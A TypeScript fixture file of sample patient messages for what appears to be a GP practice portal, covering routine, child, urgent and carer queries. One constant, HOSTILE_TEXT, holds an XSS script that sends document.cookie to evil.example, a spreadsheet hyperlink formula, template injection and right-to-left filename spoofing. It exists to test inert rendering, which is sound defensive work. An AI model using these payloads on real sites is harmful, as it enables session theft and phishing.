/** What people ask nurses and doctors, in the same form as ADMIN_TEXTS. */
export const CLINICAL_TEXTS = [
  'Rash on my arm | I have had a red itchy rash on my arm for {n} days. It is not spreading but it is not going either. Should I be worried?',
  'Blood pressure readings | Here are my readings as {gp} asked: 148/86, 152/90, 139/84, 145/88. I took them in the mornings before breakfast. | 40-95',
  'Side effects of new tablets | Since I started the new blood pressure tablets I have swollen ankles. Should I keep taking them? | 40-95',
  'Cough will not go | I have had this cough for {n} weeks now. No temperature, just keeps me awake. Do I need antibiotics?',
  'Sore throat | Sore throat and temperature since {day}. My nephew had strep. I had rheumatic fever as a child. | 16-50',
  'Back pain again | My back has gone again after stacking firewood. Same as last time. Could I have the same tablets as before? | 20-75',
  'Sleep | I am only sleeping {n} hours a night since Dad died. Is there something that would help for a short while? | 18-70',
  'Low mood | I have been feeling pretty flat for a few weeks and it is hard to get going. {gp} said to write if it came back. It has come back.',
  'Anxiety before exams | I keep getting a tight feeling and my heart racing before exams. Can I talk to somebody? | 16-25',
  'Gout flare | Gout in my big toe again since {day}. Can hardly put a shoe on. Is it OK to take the allopurinol while it is flared up? | 30-95',
  'Migraine | That is {n} migraines this month. The tablets take the edge off but I missed work again. | 18-60',
  'Mole on my back | My wife says a mole on my back has changed. It is darker on one side. Can someone have a look? | m30-90',
  'Lump | I have found a small lump under my arm. It does not hurt. Should I come in?',
  'Heartburn | The omeprazole worked but now it is back since I stopped it. Can I go back on?',
  'Sugars high | My sugars have been between 12 and 16 all week. I have not changed anything. Do I put the insulin up? | 35-95',
  'Hypo in the night | I had a hypo on {day} night, 3.1, felt shaky and sweaty. Had some juice. Should I lower the glargine? | 35-95',
  'Question about my HbA1c | I can see my HbA1c has gone up to 6{n}. What does that mean for my tablets? | 35-95',
  'Results question | What does it mean that my ferritin is low? Do I just take iron from the chemist?',
  'Cholesterol | {gp} said we would talk about cholesterol tablets after the blood test. I would rather try diet first if that is OK. | 35-80',
  'Contraception | I would like to come off the pill and try something longer lasting. Which ones do you do at the clinic? | f16-45',
  'Missed pills | I missed {n} pills this week because I was away. What do I do now? | f16-45',
  'Pregnancy test positive | I did two tests and both are positive! About {n} weeks I think. What happens next? 😊 | f18-43',
  'Nausea in pregnancy | I am 9 weeks and cannot keep much down. Is there something safe I could take? | f18-43',
  'Menopause | Hot flushes all night. My friend is on patches and swears by them. Could I try those? | f45-58',
  'Urine infection | I think I have another urine infection, it stings and I am going all the time. Can I drop a sample in? | f16-95',
  'Waterworks | I am up {n} times a night to the toilet. My mate says I should get my prostate checked. | m50-90',
  'Bowel screening kit | The bowel screening people said my test needs a follow up. I am a bit worried. Can {gp} call me? | 60-74',
  'Constipation since tramadol | Since I started the tramadol I have not been for {n} days. What can I take? | 25-95',
  'Ankle sprain | Rolled my ankle at netball on {day}. It is black and blue but I can walk on it. X-ray or not? | f16-45',
  'Knee injection | The injection in my knee has worn off after {n} months. When can I have another one? | 45-95',
  'Shoulder | The physio thinks I should have an ultrasound of the shoulder. Can {gp} refer me?',
  'Asthma | I have been using my blue puffer {n} times a day this week, it is the pollen. Should I step up the orange one?',
  'Hay fever | The cetirizine is not touching it this year. Is there a nose spray I can have as well?',
  'Eczema | The hydrocortisone does nothing now. Can I have the stronger cream I had last winter?',
  'Infected toenail | My toenail is red and there is a bit of pus. I am diabetic so I thought I had better ask.',
  'Stitches out | I had {n} stitches at the hospital on {day}. When should they come out and can the nurse do that?',
  'Wound looks red | The cut from the operation looks a bit red on one end. No fever. Can I send a photo?',
  'Dizzy when standing | I get dizzy when I stand up since the dose was put up. Nearly fell on {day}. | 50-95',
  'Palpitations | My watch says my heart rate jumped to 1{n}0 for a few minutes when I was sitting down. I feel fine now.',
  'Tick bite in Australia | We came back from Queensland and I have a round red mark where I had a bite. Is that anything?',
  'Travel vaccines | We are going to Samoa in {month} to see whānau. What vaccines do we need and how long before?',
  'Malaria tablets | I am off to Vanuatu in {n} weeks. Do I need malaria tablets?',
  'Quit smoking | I am ready to give up the smokes for good this time. What can you do to help? | 18-75',
  'Weight | I would like to ask {gp} about the weight loss injections. Are they funded?',
  'Hearing | The TV is getting louder every month according to the family. Can you check my ears? | 55-95',
  'Eye is red | Woke up with one red gluey eye. It does not hurt and I see fine. Chemist said ask you.',
  'Tooth abscess | My face is a bit swollen from a tooth and the dentist cannot see me until {day}. Could I have antibiotics?',
  'Shingles vaccine | I turn 65 in {month}. Is it true the shingles vaccine is free for me? | 64-65',
  'INR | My INR was 3.{n} at the lab. Do I keep the warfarin the same? | 60-100',
  'Warfarin and antibiotics | The dentist gave me antibiotics on {day}. Do I need an extra INR test while I am on warfarin? | 60-100',
  'Hospital discharge | I came out of hospital on {day}. They changed two of my tablets and I am not sure which ones to take now. | 40-95',
  'Alternative medicine | Is kawakawa balm OK with the cream {gp} gave me? Nan swears by rongoā.',
  'Thyroid | I feel tired all the time and my hair is thin. Could it be the thyroid dose? Last test was in {month}. | f25-80',
  'Lithium level | The mental health team asked for a lithium level this month. Can you send me a form? | 20-75',
  'Gabapentin | Can I take gabapentin with the other pills? The pain clinic suggested it.',
  'Caring for Mum | Mum is getting more forgetful and left the stove on twice. How do we get her assessed? | 45-70',
] as const;

/** A parent writes about a child, `topic | text`; {child} is the child. */
export const CHILD_TEXTS = [
  '{child} has a fever | {child} has had a temperature of 38.{n} since last night. Drinking OK and wet nappies. When should we come in? | 0-2',
  'Ear ache | {child} was up all night with a sore ear. Pamol helps a bit. Do we need to be seen? | 0-10',
  "Immunisations | When are {child}'s next immunisations due? We might have missed one when we moved. | 0-5",
  'School sores | {child} has sores around the mouth and the kura says to stay home. Can we get the cream? | 5-12',
  'Eczema cream | {child} needs more of the eczema cream and the moisturiser, we are nearly out.',
  'Asthma plan | The school wants an asthma plan for {child}. Could the nurse fill one in? | 5-15',
  'Nits | {child} has nits for the third time. Can we have something on prescription as it gets expensive? | 5-12',
  'Tummy aches | {child} has a sore tummy before school most mornings. Happy in the weekends. Who should we see? | 5-12',
  'B4 School Check | Has {child} had the B4 School Check? I cannot remember if we did it. | 3-5',
  'Wetting the bed | {child} is still wet at night most nights. Is that something to look into at this age? | 6-10',
  'Chickenpox | I think {child} has chickenpox. I am {n} weeks pregnant. Do I need to do anything? | 1-10',
  'Hearing test | The preschool thinks {child} is not hearing well. Can you refer us? | 2-4',
  'Head bump | {child} fell off the trampoline and has an egg on the forehead. Cried straight away and is playing now. What do I look out for? | 3-12',
  'Antibiotic spat out | {child} spits out the antibiotic. Is there another flavour or another way? | 0-6',
] as const;

/** Words that must raise an eyebrow, and the priority, `topic | text`. */
export const RED_FLAG_TEXTS = [
  'Chest pain | I have had chest pain on and off since this morning, it goes down my left arm a bit. Probably just the gardening? | 35-100',
  'Short of breath | I am short of breath just walking to the letterbox and had to sleep in the chair. It has come on over {n} days. | 40-100',
  'Feeling awful | I do not want to be here anymore. I did not know who else to tell.',
  'Numb hand | My right hand went numb and my speech was slurred for about ten minutes at breakfast. It is fine now. | 45-100',
  'Bleeding | There is blood in the toilet, quite a lot and it is dark. I feel light headed. I am on warfarin. | 60-100',
  'Worst headache | This is the worst headache of my life and the light hurts my eyes. It came on all of a sudden.',
  'Swollen calf | My calf is swollen, hot and sore since the flight from Singapore on {day}.',
  'Reaction to antibiotic | My lips and tongue are swelling since I took the new antibiotic an hour ago.',
  'Baby not moving | I am 34 weeks and the baby has not moved much since yesterday. | f18-43',
  'Bleeding in pregnancy | I am 8 weeks and bleeding with cramps on one side. | f18-43',
  'Vision gone | The vision in one eye went grey like a curtain coming down. It is half back. | 50-100',
  'Kei te mamae taku uma | Tēnā koe. Kei te mamae taku uma, he uaua te hā. My chest hurts and it is hard to breathe. | 35-100',
  'Back pain and numbness | My back is terrible and now I am numb between the legs and cannot pass water properly.',
  'Vomiting and sugars | Vomiting all night and the sugars are 24. The ketone strip is dark purple. | 18-80',
] as const;

/** A message as long as some are: nothing in it is urgent and the question is at the end. */
export const LONG_TEXT = `My story so far | I thought it best to write it all down so that I do not forget anything when I see {gp}. It started in {month} when I was helping my brother shift house. I felt a twinge in my lower back but carried on, as you do.\n\nThe next morning I could not put my socks on. I rested for two days, then went back to work (I drive a forklift). After about {n} weeks the pain began to go down the outside of the right leg, as far as the knee, worse when I sit and better when I walk. I saw a physio at work, who gave me exercises. I did them every day for a month. They helped the back but not the leg.\n\nIn between I had the flu, so that put me back a bit. My wife thinks I am limping. I have taken Panadol and Nurofen, and one of my brother's tramadol, which made me sick.\n\nWhat I can do: walk the dog for half an hour, mow the lawns in two goes, sleep on my left side. What I cannot do: sit through a movie, lift more than a bag of spuds, drive to Hamilton without stopping.\n\nI do not have any numbness, and the waterworks are fine. I am not keen on an operation. My cousin had one and it did him no good at all.\n\nMy questions are: should I have a scan, is it all right to keep driving the forklift, and would ACC cover it although it was not at work? Sorry it is so long. Thank you for reading all of it.`;

/** A message as an attacker or a broken mail program would send it: markup, a link, right-to-left override, zero-width and full-width look-alikes. Must be shown, inert, to the letter. */
export const HOSTILE_TEXT =
  'Re: <b>your</b> invoice \u202Etxt.exe | <img src=x onerror="alert(document.domain)"><script>fetch("https://evil.example/?c="+document.cookie)</script>\nPlease see https://kauristreet.example.evil.example/pay\u202Egpj.exe and approve\u200B at once. \u2066Dr P\u0430rata\u2069 said it is OK.\n=HYPERLINK("https://evil.example","Open") {{constructor.constructor("alert(1)")()}} Ｆｒｅｅ Z\u0337a\u0337l\u0337g\u0337o';

/** The same about a child. */
export const CHILD_RED_FLAG_TEXTS = [
  '{child} is floppy | {child} is floppy and hard to wake since the afternoon nap, and is not drinking.',
  '{child} breathing fast | {child} is breathing really fast and the skin sucks in under the ribs. I can hear a wheeze.',
  'Rash that does not fade | {child} has a fever and purple spots that do not go away when I press a glass on them.',
  'Swallowed tablets | {child} may have swallowed some of my blood pressure tablets. I am not sure how many.',
] as const;

/** Written by whoever holds the power of attorney; {child} is the person cared for. */
export const ATTORNEY_TEXTS = [
  "Medicines for {child} | I look after {child}'s tablets now. Could the pharmacy put them in blister packs?",
  'Falls | {child} has had {n} falls this month. Nothing broken but it worries us. What can be done at home?',
  'Flu vaccine for {child} | Can someone come to the house to give {child} the flu vaccine? Getting to the car is hard now.',
  'Not eating | {child} is eating very little and the trousers are hanging off. Should we come in?',
  'Memory | {child} asks the same thing many times a day now, and got lost on the way to the dairy. Who do we talk to about an assessment?',
  'Rest home form | The rest home needs a form from {gp} about {child} before {day}. Shall I drop it in?',
] as const;
